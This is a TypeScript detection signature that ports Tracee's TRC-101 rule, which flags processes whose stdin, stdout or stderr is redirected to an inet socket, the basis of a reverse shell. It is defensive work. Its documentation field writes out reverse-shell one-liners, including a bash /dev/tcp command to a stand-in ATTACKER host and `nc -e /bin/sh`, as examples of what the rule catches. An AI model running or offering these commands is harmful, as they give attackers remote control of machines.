/**
 * TRC-101 stdio_over_socket: a process's stdin, stdout or stderr becomes a
 * network socket, the core of a reverse shell. Tracee's logic on its
 * security_socket_connect and socket_dup events, rebuilt from syscalls: a
 * connect (returning 0 or -EINPROGRESS) of fd 0, 1 or 2 to an inet address;
 * or a copy of a socket onto fd 0-2 (dup, dup2, dup3, and fcntl F_DUPFD /
 * F_DUPFD_CLOEXEC, which Tracee does not see) whose remote end is an inet
 * address. As in Tracee, a remote port 0 does not count; loopback does.
 */
import type { Signature } from '../signature.js';
import type { FdDescription } from '../../process/fd-description.js';
import { connectSucceeded, numArg, sockaddrArg } from '../predicates.js';

const STDIO = [0, 1, 2];
const F_DUPFD = 0, F_DUPFD_CLOEXEC = 1030;

/** The inet peer of a socket fd description, or undefined. */
function inetPeer(fd: FdDescription | undefined): { address: string; port: number } | undefined {
  if (fd?.kind !== 'socket' || (fd.family !== 'AF_INET' && fd.family !== 'AF_INET6')) return undefined;
  return fd.remote && 'address' in fd.remote ? fd.remote : undefined;
}

export const stdioOverSocket: Signature = {
  metadata: {
    id: 'TRC-101',
    version: '2',
    name: 'Process standard input/output over socket detected',
    eventName: 'stdio_over_socket',
    description: 'A process has its standard input/output redirected to a socket. This behavior is the base of a Reverse Shell attack, which is when an interactive shell being invoked from a target machine back to the attacker\'s machine, giving it interactive control over the target. Adversaries may use a Reverse Shell to retain control over a compromised target while bypassing security measures like network firewalls.',
    properties: {
      Severity: 3,
      Category: 'execution',
      Technique: 'Unix Shell',
      Kubernetes_Technique: '',
      id: 'attack-pattern--a9d4b653-6915-42af-98b2-5758c4ceee56',
      external_id: 'T1059.004',
    },
  },
  selects: [
    { event: 'connect', origin: 'any', where: { sockfd: { in: STDIO } } },
    { event: 'dup', origin: 'any' },
    { event: 'dup2', origin: 'any', where: { newfd: { in: STDIO } } },
    { event: 'dup3', origin: 'any', where: { newfd: { in: STDIO } } },
    { event: 'fcntl', origin: 'any', where: { cmd: { in: [F_DUPFD, F_DUPFD_CLOEXEC] } } },
  ],
  doc: {
    data: [
      { name: 'IP address', type: 'const char *', doc: 'The remote address (IPv4 dotted quad, IPv6 RFC 5952 text), as Tracee names the field.' },
      { name: 'Port', type: 'const char *', doc: 'The remote port, as a string as in Tracee.' },
      { name: 'File descriptor', type: 'int', doc: 'The standard fd (0, 1 or 2) that is now the socket.' },
    ],
    useCase: 'A reverse shell: `bash -i >& /dev/tcp/ATTACKER/4444 0>&1`, `nc -e /bin/sh`, python\'s `socket` + `os.dup2(s.fileno(), 0..2)` + `pty.spawn`, or an exploit\'s shellcode (socket, connect, dup2 ×3, execve) connect to the attacker and make the socket the shell\'s terminal; outbound connections pass firewalls that block inbound ones.',
    issues: 'One finding per fd: a reverse shell that copies its socket onto 0, 1 and 2 makes three, as in Tracee. '
      + 'Loopback counts, as in Tracee (it leaves out only port 0): a local reverse shell, and programs that put a local TCP connection on their stdio (inetd-style servers started by a local proxy, `socat TCP:127.0.0.1:… EXEC:…`) match. inetd and systemd units with StandardInput=socket make an accepted socket their service\'s stdio; its remote is the client, so they match too: allow them by program with a policy. '
      + 'Unix sockets (socat to a unix socket, a socketpair to a parent) are left out, as in Tracee; so are sockets that reach stdio through fork without a copy (a parent that set up 0-2 for its child), fds passed over SCM_RIGHTS, or pidfd_getfd, and a shell reading from a pipe fed by a separate network process (mkfifo + nc). '
      + 'Differs from Tracee: connect is reported when it returned 0 or -EINPROGRESS (Tracee\'s LSM hook runs before the connection is tried); fcntl F_DUPFD/F_DUPFD_CLOEXEC is seen (its fd is described by the kernel at entry); the socket\'s remote comes from the kernel\'s description of the new fd at exit (dup*) or of the copied fd at entry (fcntl), so a copy of a socket that is not yet connected (connected after the dup) is missed, as Tracee misses it.',
    related: ['connect', 'dup', 'dup2', 'dup3', 'fcntl', 'illegitimate_shell', 'run_shell_untrusted'],
  },
  onEvent: (event) => {
    let fd: number;
    let peer: { address: string; port: number } | undefined;
    switch (event.eventName) {
      case 'connect': {
        fd = numArg(event, 'sockfd');
        const sa = sockaddrArg(event);
        if (!connectSucceeded(event) || (sa?.family !== 'AF_INET' && sa?.family !== 'AF_INET6')) return undefined;
        peer = { address: sa.address ?? '', port: sa.port ?? 0 };
        break;
      }
      case 'dup': case 'dup2': case 'dup3':
        fd = Number(event.returnValue);
        peer = inetPeer(event.returnedFd);
        break;
      case 'fcntl': {
        const cmd = numArg(event, 'cmd');
        if (cmd !== F_DUPFD && cmd !== F_DUPFD_CLOEXEC) return undefined;
        fd = Number(event.returnValue);
        peer = inetPeer(event.args.find((a) => a.spec.name === 'fd')?.fd);
        break;
      }
      default:
        return undefined;
    }
    if (!STDIO.includes(fd) || !peer || peer.port === 0) return undefined;
    return { data: { 'IP address': peer.address, Port: String(peer.port), 'File descriptor': fd } };
  },
};
